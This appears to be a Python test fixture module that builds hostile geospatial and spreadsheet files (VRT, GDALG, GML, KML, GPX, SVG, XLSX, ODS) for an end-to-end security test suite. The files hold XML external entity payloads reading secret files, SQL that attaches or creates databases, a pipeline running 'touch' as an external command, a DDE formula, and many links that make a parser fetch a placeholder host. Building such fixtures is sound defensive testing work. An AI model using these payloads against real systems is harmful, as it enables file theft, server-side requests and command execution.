"""Vector files that name another place, as text; `traps_raster` explains the placeholders. Workbooks are archives of such texts."""

from tests.e2e.mcp.hostile_files import GDALG, KML, OGR_VRT

LINK = '<!DOCTYPE x [<!ENTITY e SYSTEM "file://@OUT@/secret.txt"><!ENTITY % p SYSTEM "@OUT@/secret.txt">%p;]>'
NET_LINK = '<!DOCTYPE x SYSTEM "@URL@.dtd" [<!ENTITY e SYSTEM "@URL@"><!ENTITY % p SYSTEM "@URL@">%p;]>'
GML = (
    '<ogr:FeatureCollection xmlns:ogr="http://ogr.maptools.org/" xmlns:gml="http://www.opengis.net/gml" xmlns:xlink="http://www.w3.org/1999/xlink"'
    ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://ogr.maptools.org/ {schema}">'
    '<gml:featureMember><ogr:x fid="x.0"><ogr:geom {href}/><ogr:name>{text}</ogr:name></ogr:x></gml:featureMember></ogr:FeatureCollection>'
)  # fmt: skip
CAP = '<{0} version="1.0"><URL>@URL@</URL></{0}>'


def ogr(name: str, layer: str = "secret", more: str = "") -> str:
    return OGR_VRT.format(layer=layer, name=name).replace("</OGRVRTLayer>", f"{more}</OGRVRTLayer>")


def pipeline(command: str) -> str:
    return GDALG.format(command=command)


FILES = {
    "ogr-geojson.vrt": ogr("@OUT@/secret.geojson"),
    "ogr-sql.vrt": ogr("@WS@/zones.gpkg", more="<SrcSQL dialect='OGRSQL'>SELECT z.name, s.* FROM zones z LEFT JOIN '@OUT@/secret.csv'.secret s ON z.fid = s.id</SrcSQL>"),
    "ogr-sqlite.vrt": ogr("@WS@/zones.gpkg", more="<SrcSQL dialect='SQLITE'>SELECT ogr_datasource_load_layers('@OUT@/secret.csv'), * FROM secret</SrcSQL>"),
    "ogr-attach.vrt": ogr("@WS@/zones.gpkg", more="<SrcSQL dialect='INDIRECT_SQLITE'>ATTACH DATABASE '@WS@/PWNED.db' AS a</SrcSQL>"),
    "ogr-union.vrt": "<OGRVRTDataSource><OGRVRTUnionLayer name='secret'><OGRVRTLayer name='secret'><SrcDataSource>@OUT@/secret.csv</SrcDataSource></OGRVRTLayer></OGRVRTUnionLayer></OGRVRTDataSource>",
    "ogr-warped.vrt": "<OGRVRTDataSource><OGRVRTWarpedLayer><OGRVRTLayer name='secret'><SrcDataSource>@OUT@/secret.geojson</SrcDataSource></OGRVRTLayer><SrcSRS>EPSG:4326</SrcSRS><TargetSRS>EPSG:3857</TargetSRS></OGRVRTWarpedLayer></OGRVRTDataSource>",
    "ogr-options.vrt": ogr("@WS@/zones.gpkg", "zones").replace("<SrcDataSource>", "<OpenOptions><OOI key='PRELUDE_STATEMENTS'>ATTACH DATABASE '@WS@/PWNED.db' AS a; CREATE TABLE a.t(x)</OOI></OpenOptions><SrcDataSource>"),
    "ogr-vsi.vrt": ogr("/vsisubfile/0_99,@OUT@/secret.csv"),
    "ogr-curl-file.vrt": ogr("/vsicurl/file://@OUT@/secret.csv"),
    "ogr-stream-file.vrt": ogr("/vsicurl_streaming/file://@OUT@/secret.csv"),
    "ogr-as-json.json": ogr("CSV:@OUT@/secret.csv"),
    "ogr-as-shp.shp": ogr("CSV:@OUT@/secret.csv"),
    "read.gdalg.json": pipeline("gdal vector pipeline ! read @OUT@/secret.csv ! write --of stream streamed_dataset"),
    "sql.gdalg.json": pipeline("gdal vector pipeline ! read @WS@/zones.gpkg ! sql --sql=@@OUT@/secret.txt ! write --of stream streamed_dataset"),
    "external.gdalg.json": pipeline("gdal vector pipeline ! read @WS@/zones.gpkg ! external --command='touch @WS@/PWNED' ! write --of stream streamed_dataset"),
    "config.gdalg.json": pipeline("gdal vector pipeline --config CPL_LOG=@WS@/PWNED_LOG ! read @WS@/zones.gpkg ! write --of stream streamed_dataset"),
    "link.gml": LINK + GML.format(schema="@OUT@/secret.txt", href='xlink:href="@OUT@/secret.gml"', text="&e;"),
    "template.gml": GML.format(schema="", href="", text="x"),
    "template.gfs": "<GMLFeatureClassList><GMLFeatureClass><Name>x</Name><ElementPath>x</ElementPath><PropertyDefn><Name>a</Name><ElementPath>@OUT@/secret.txt|name</ElementPath><Type>String</Type></PropertyDefn></GMLFeatureClass></GMLFeatureClassList>",
    "link.gpx": LINK + '<gpx version="1.1" xmlns="http://www.topografix.com/GPX/1/1"><wpt lat="1" lon="2"><name>&e;</name></wpt></gpx>',
    "link.svg": LINK + '<svg xmlns="http://www.w3.org/2000/svg" xmlns:cc="http://cloudmade.com/"><text>&e;</text><image href="@OUT@/secret.tif"/></svg>',
    "link.kml": KML.format(doctype=LINK, text="&e;").replace("<Placemark>", "<NetworkLink><Link><href>@OUT@/secret.kml</href></Link></NetworkLink><Placemark>"),
    "link.osm": LINK + '<osm version="0.6"><node id="1" lat="1" lon="2" version="1"><tag k="name" v="x"/>&e;</node></osm>',
    "link.georss.xml": LINK + '<rss version="2.0" xmlns:georss="http://www.georss.org/georss"><channel><item><title>&e;</title><georss:point>1 2</georss:point></item></channel></rss>',
    "seamless.tab": '!table\n!version 300\n!charset Neutral\nDefinition Table\n  Type NATIVE Charset "Neutral"\n  Fields 2\n    Table Char (200) ;\n    Description Char (25) ;\nbegin_metadata\n"\\\\IsSeamless" = "TRUE"\nend_metadata\n',
    "raster.tab": '!table\n!version 300\n!charset WindowsLatin1\nDefinition Table\n  File "@OUT@/secret.tif"\n  Type "RASTER"\n  (0,0) (0,0) Label "a",\n  (1,1) (20,20) Label "b",\n  (1,0) (20,0) Label "c"\n  CoordSys Earth Projection 1, 104\n',
    "text.csv": "id,WKT\n1,POINT (1 2)\n",
    "text.csvt": '"@OUT@/secret.txt",String\n',
    "text.prj": 'GEOGCS["x",DATUM["x",SPHEROID["x",6378137,298]],PRIMEM["Greenwich",0],UNIT["degree",0.0174532925199433],EXTENSION["PROJ4","+proj=longlat +ellps=WGS84 +nadgrids=@OUT@/secret.gsb +no_defs"]]',
}  # fmt: skip

WORKBOOKS = {
    "link.xlsx": {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "xl/workbook.xml": LINK + '<workbook xmlns:r="r"><sheets><sheet name="s" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": '<Relationships><Relationship Id="rId1" Type="x/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/sharedStrings.xml": LINK + "<sst><si><t>&e;</t></si></sst>",
        "xl/worksheets/sheet1.xml": '<worksheet><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>',
    },
    "link.ods": {
        "mimetype": "application/vnd.oasis.opendocument.spreadsheet",
        "content.xml": LINK + '<office:document-content xmlns:office="o" xmlns:table="t" xmlns:text="x"><office:body><office:spreadsheet><table:table table:name="s"><table:table-row>'
        '<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;@OUT@/secret.txt&quot;;&quot;A1&quot;)"><text:p>&e;</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet></office:body></office:document-content>',
    },
    "link.kmz": {"doc.kml": KML.format(doctype=LINK, text="&e;")},
    "vrt-inside.zip": {"in.vrt": ogr("@OUT@/secret.csv"), "in.gdalg.json": pipeline("gdal vector pipeline ! read @OUT@/secret.csv ! write --of stream streamed_dataset")},
}  # fmt: skip

URLS = {
    "net-ogr.vrt": ogr("/vsicurl/@URL@.csv"),
    "net-ogr-http.vrt": ogr("@URL@.geojson"),
    "net-ogr-pg.vrt": ogr("PG:host=@HOST@ port=@PORT@ dbname=x"),
    "net-ogr-mysql.vrt": ogr("MYSQL:x,host=@HOST@,port=@PORT@"),
    "net-ogr-es.vrt": ogr("ES:@URL@"),
    "net-ogr-wfs.vrt": ogr("WFS:@URL@"),
    "net-ogr-oapif.vrt": ogr("OAPIF:@URL@"),
    "net-ogr-csw.vrt": ogr("CSW:@URL@"),
    "net-ogr-ngw.vrt": ogr("NGW:@URL@/resource/1"),
    "net-ogr-seq.vrt": ogr("GeoJSONSeq:@URL@"),
    "net-ogr-mvt.vrt": ogr("MVT:@URL@/0"),
    "net-ogr-gml.vrt": ogr("GMLAS:/vsicurl/@URL@.gml"),
    "net-wfs.xml": CAP.format("OGRWFSDataSource"),
    "net-csw.xml": CAP.format("OGRCSWDataSource"),
    "net-oapif.json": '{"links":[{"rel":"data","href":"@URL@/collections","type":"application/json"}],"conformsTo":["http://www.opengis.net/spec/ogcapi-features-1/1.0/conf/core"]}',
    "net-gdalg.gdalg.json": pipeline("gdal vector pipeline ! read @URL@.geojson ! write --of stream streamed_dataset"),
    "net-curl.gdalg.json": pipeline("gdal vector pipeline ! read /vsicurl/@URL@.gpkg ! write --of stream streamed_dataset"),
    "net-schema.gml": NET_LINK + GML.format(schema="@URL@.xsd", href='xlink:href="@URL@.gml"', text="&e;"),
    "net-link.kml": KML.format(doctype=NET_LINK, text="&e;").replace("<Placemark>", "<NetworkLink><Link><href>@URL@.kml</href></Link></NetworkLink><Placemark><styleUrl>@URL@.kml#s</styleUrl>"),
    "net-crs.geojson": '{"type":"FeatureCollection","crs":{"type":"link","properties":{"href":"@URL@.wkt","type":"ogcwkt"}},"features":[{"type":"Feature","properties":{},"geometry":{"type":"Point","coordinates":[1,2]}}]}',
    "net-crs-url.geojson": '{"type":"FeatureCollection","crs":{"type":"url","properties":{"url":"@URL@.wkt"}},"features":[{"type":"Feature","properties":{},"geometry":{"type":"Point","coordinates":[1,2]}}]}',
    "net-next.geojson": '{"type":"FeatureCollection","links":[{"rel":"next","href":"@URL@"}],"exceededTransferLimit":true,"features":[{"type":"Feature","properties":{"url":"@URL@"},"geometry":{"type":"Point","coordinates":[1,2]}}]}',
    "net-esri.json": '{"objectIdFieldName":"a","geometryType":"esriGeometryPoint","exceededTransferLimit":true,"spatialReference":{"wkt":"@URL@"},"fields":[{"name":"a","type":"esriFieldTypeOID"}],"features":[{"attributes":{"a":1},"geometry":{"x":1,"y":2}}]}',
    "net-mapml.mapml": '<mapml- xmlns="http://www.w3.org/1999/xhtml/"><map-head><map-link rel="next" href="@URL@"/></map-head><map-body><map-feature><map-geometry><map-point><map-coordinates>1 2</map-coordinates></map-point></map-geometry></map-feature></map-body></mapml->',
    "net.gpx": NET_LINK + '<gpx version="1.1" xmlns="http://www.topografix.com/GPX/1/1"><wpt lat="1" lon="2"><name>&e;</name><link href="@URL@"/></wpt></gpx>',
    "net-crs.csv": "id,WKT\n1,POINT (1 2)\n",
    "net-crs.prj": 'GEOGCS["x",DATUM["x",SPHEROID["x",6378137,298]],PRIMEM["Greenwich",0],UNIT["degree",0.0174532925199433],EXTENSION["PROJ4","+proj=longlat +ellps=WGS84 +nadgrids=@URL@.gsb +no_defs"]]',
}  # fmt: skip
